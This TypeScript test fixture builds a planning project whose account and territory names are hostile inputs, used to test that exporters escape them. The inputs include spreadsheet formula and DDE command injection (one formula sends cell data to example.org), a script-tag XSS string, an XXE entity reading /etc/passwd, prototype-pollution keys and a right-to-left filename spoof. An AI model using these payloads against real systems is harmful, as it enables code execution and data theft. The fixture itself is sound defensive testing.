/** A small project whose file holds what breaks careless exporters: formulas, markup, zeros in front, odd names. */
import { latLngToCell, gridDisk } from 'h3-js';
import type { Dataset } from '../../src/core/data/dataset.ts';
import { defaultChoices } from '../../src/core/data/default-choices.ts';
import { guessColumns } from '../../src/core/data/guess-roles.ts';
import { makeDataset } from '../../src/core/data/make-accounts.ts';
import { groundOfGrid } from '../../src/core/data/ground-of-grid.ts';
import { buildGrid } from '../../src/core/grid/build-grid.ts';
import { clonePlan, createPlan, equalTerritories } from '../../src/core/plan/make-plan.ts';
import type { Plan, Territory } from '../../src/core/plan/plan.ts';
import { readSource } from '../../src/io/read/read-source.ts';
import type { PlanRequest } from '../../src/io/write/territory-properties.ts';
import { seededOwners, seededRandom } from '../property/small-project.ts';

export const FORMULA = '=HYPERLINK("http://example.org?x="&A1,"open")';
export const SCRIPT = '</name><script>alert(1)</script>&amp;"\'';

/** Names that go into a column of the file, one an account, again and again. */
const NAMES = [
  'plain',
  FORMULA,
  SCRIPT,
  '+1-800-CALL',
  '-2+3',
  '@SUM(1+1)',
  '\tTab first',
  'line\nbreak, "quoted"',
  'Łódź – Zürich 😀',
  "'already",
  '__proto__',
  'nul\u0001bell',
  '_x0041_ is no A',
  "=cmd|' /C calc'!A0",
  ']]><![CDATA[<b>',
  '\u202Egpj.exe\u202C שלום مرحبا 東京',
  'nul\0byte',
  '&lol9; <!ENTITY lol9 SYSTEM "file:///etc/passwd">',
  'a;=1+1',
  'w'.repeat(10_000),
];

const HEADER = ['Account Id', 'name', 'latitude', 'longitude', 'revenue', 'visits', 'ZIP', '__proto__', 'Fid', 'geom'];

function csvOf(rows: readonly (readonly string[])[]): string {
  return rows.map((row) => `${row.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(',')}\n`).join('');
}

export interface NastyProject {
  readonly request: PlanRequest;
  readonly base: Plan;
  readonly dataset: Dataset;
}

/** `center` = latitude and longitude; 300 accounts in a disk of cells around it, five of them without a place. */
export async function nastyProject(center: readonly [number, number] = [47.6, -122.3]): Promise<NastyProject> {
  const random = seededRandom(7);
  const grid = buildGrid(gridDisk(latLngToCell(center[0], center[1], 6), 6));
  const rows = Array.from({ length: 300 }, (_, i) => {
    const cell = Math.floor(random() * grid.count);
    const placed = i % 60 !== 59;
    const lat = placed ? String(grid.centers[2 * cell + 1]) : '';
    const lng = placed ? String(grid.centers[2 * cell]) : '';
    const id = String(i).padStart(5, '0');
    const money = (random() * 1e5).toFixed(2);
    return [
      id,
      NAMES[i % NAMES.length]!,
      lat,
      lng,
      money,
      String(i % 7),
      `0${1000 + (i % 9)}`,
      SCRIPT,
      String(i),
      FORMULA,
    ];
  });
  const { table } = await readSource('nasty.csv', new TextEncoder().encode(csvOf([HEADER, ...rows])));
  const { dataset } = makeDataset(table, defaultChoices(table, guessColumns(table), 5));
  const { ground } = groundOfGrid(grid, dataset, 0, () => 0);
  const territories = equalTerritories(5).map((territory, i): Territory => {
    const name = [SCRIPT, FORMULA, 'Zürich/Łódź', '007', '007!'][i]!;
    return {
      ...territory,
      id: `00${i + 1}`,
      name,
      rep: i === 2 ? '' : `=rep ${i} <b>]]>\0\u202E`,
      region: i < 3 ? 'w&est' : '',
    };
  });
  const plan = createPlan({
    id: 'plan-nasty',
    name: 'Q1 "plan" <b>/2026',
    grid,
    territories,
    owners: seededOwners(grid, 5, random),
    bridges: [],
    overrides: [{ account: 3, territory: 2 }],
    regions: [{ id: 'w&est', name: 'West <i>', parent: '' }],
  });
  const base = clonePlan(plan, 'plan-base', 'Today');
  base.layers[0]!.fill(1, 0, 40);
  const request = { planName: 'Q1 "plan" <b>/2026', dataset, grid, demand: ground.demand, plan };
  return { request, base, dataset };
}
